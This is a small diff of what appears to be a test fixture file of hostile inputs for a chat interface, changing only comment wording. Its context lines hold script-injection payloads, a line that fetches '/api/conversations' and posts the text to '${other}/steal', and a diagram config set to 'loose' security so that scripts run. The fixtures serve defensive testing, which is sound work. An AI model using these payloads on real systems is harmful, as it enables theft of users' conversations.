@@ -1,4 +1,7 @@
-/** Script attempts, in every place text comes from. Each would set `wasHarmed`, open a dialog or ask another host. */
+/**
+ * Attempts to run scripts, in every place that text comes from. Each would set `wasHarmed`, open a dialog or contact
+ * another host.
+ */
 const HARM = "globalThis.wasHarmed=1;alert(1)";
 
 export const HOSTILE_ANSWER = [
@@ -44,7 +47,7 @@ fetch("/api/conversations").then((r)=>r.text()).then((t)=>fetch("${other}/steal?
 </body></html>`;
 }
 
-/** A diagram that tries to loosen its own limits, to run scripts and to reach `other`. */
+/** A diagram that tries to relax its own limits, to run scripts and to reach `other`. */
 export function hostileDiagram(other: string): string {
   const settings = {
     securityLevel: "loose",
